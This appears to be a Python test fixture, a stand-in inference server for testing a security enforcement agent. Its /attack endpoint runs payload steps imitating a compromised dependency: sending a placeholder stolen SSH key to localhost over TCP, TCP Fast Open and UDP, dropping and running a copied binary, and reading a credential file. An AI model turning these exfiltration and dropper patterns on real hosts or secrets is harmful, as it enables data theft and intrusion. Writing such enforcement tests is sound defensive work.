"""A stand-in inference server for the enforcement tests: normal work, and a payload child.

standin.py MARKER APP PORT PROVIDER_PORT
  GET /infer?n=N   reads APP/model.txt, appends to APP/logs/requests.log, asks the provider
                   (127.0.0.1:PROVIDER_PORT) over TCP, runs /usr/bin/uname -s; replies
                   "<model> <provider reply> <uname>".
  With startup.txt present beside APP, reads it before listening (start-up work); with
  reread-after-listen there too, reads it again right after listening (serving already).
  GET /attack?step=S&arg=A&arg=B
                   runs this file as a payload child (`payload S A B`), as a compromised
                   dependency would; replies "<exit status> <stdout>".
payload steps:
  exfil4 PORT / exfil6 PORT  connect to 127.0.0.1 / ::1 PORT and send the stolen bytes
  tfo PORT                   send them with TCP Fast Open (sendto MSG_FASTOPEN) to 127.0.0.1
  udp PORT                   send them in a datagram to 127.0.0.1 PORT (a resolver)
  drop DIR MARKER            copy /usr/bin/touch to DIR/dropped, run `DIR/dropped MARKER`
  cred KEY AFTER             read KEY, then write AFTER
  bind PORT                  bind 127.0.0.1 PORT
Every step prints what happened (`ok`, or `err ERRNO`).
"""
import http.server, os, shutil, socket, subprocess, sys, urllib.parse

STOLEN = b"-----BEGIN OPENSSH PRIVATE KEY----- stolen"


def result(f):
    try:
        f()
        return "ok"
    except OSError as e:
        return f"err {e.errno}"


def payload(step, args):
    if step in ("exfil4", "exfil6"):
        fam, host = (socket.AF_INET, "127.0.0.1") if step == "exfil4" else (socket.AF_INET6, "::1")
        def go():
            with socket.socket(fam, socket.SOCK_STREAM) as s:
                s.settimeout(5)
                s.connect((host, int(args[0])))
                s.sendall(STOLEN)
        print(result(go))
    elif step == "tfo":
        def go():
            with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
                s.sendto(STOLEN, socket.MSG_FASTOPEN, ("127.0.0.1", int(args[0])))
        print(result(go))
    elif step == "udp":
        def go():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(STOLEN, ("127.0.0.1", int(args[0])))
        print(result(go))
    elif step == "drop":
        dropped = os.path.join(args[0], "dropped")
        shutil.copy("/usr/bin/touch", dropped)
        os.chmod(dropped, 0o755)
        try:
            r = subprocess.run([dropped, args[1]])
            print(f"exit {r.returncode}")
        except OSError as e:  # the kernel refused the exec (BPF LSM)
            print(f"err {e.errno}")
    elif step == "cred":
        def go():
            with open(args[0], "rb") as f:
                f.read()
            with open(args[1], "w") as f:
                f.write("after the read\n")
        print(result(go))
    elif step == "bind":
        def go():
            with socket.socket() as s:
                s.bind(("127.0.0.1", int(args[0])))
        print(result(go))
    sys.stdout.flush()


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass

    def reply(self, code, text):
        body = text.encode()
        self.send_response(code)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        url = urllib.parse.urlparse(self.path)
        q = urllib.parse.parse_qs(url.query)
        try:
            if url.path == "/infer":
                self.reply(200, self.infer(q.get("n", ["0"])[0]))
            elif url.path == "/attack":
                cmd = [sys.executable, "-I", "-S", __file__, "payload", q["step"][0]] + q.get("arg", [])
                r = subprocess.run(cmd, capture_output=True, text=True, timeout=20)
                self.reply(200, f"{r.returncode} {r.stdout.strip()}")
            else:
                self.reply(404, "no")
        except Exception as e:  # the test reads the reason
            self.reply(500, repr(e))

    def infer(self, n):
        with open(os.path.join(APP, "model.txt")) as f:
            model = f.read().strip()
        with open(os.path.join(APP, "logs", "requests.log"), "a") as f:
            f.write(f"infer {n}\n")
        with socket.create_connection(("127.0.0.1", PROVIDER), timeout=5) as s:
            s.sendall(f"prompt {n}\n".encode())
            answer = s.makefile().readline().strip()
        uname = subprocess.run(["/usr/bin/uname", "-s"], capture_output=True, text=True).stdout.strip()
        return f"{model} {answer} {uname}"


if sys.argv[1] == "payload":
    payload(sys.argv[2], sys.argv[3:])
else:
    APP, PORT, PROVIDER = sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    startup = os.path.join(os.path.dirname(APP), "startup.txt")
    if os.path.exists(startup):
        # Start-up work: a moment after the exec (the agent has matched it by then), before
        # the server listens.
        import time
        time.sleep(0.5)
        with open(startup) as f:
            f.read()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", PORT), Handler)
    if os.path.exists(os.path.join(os.path.dirname(APP), "reread-after-listen")):
        with open(startup) as f:
            f.read()
    open(os.path.join(APP, "logs", "ready"), "w").close()
    server.serve_forever()
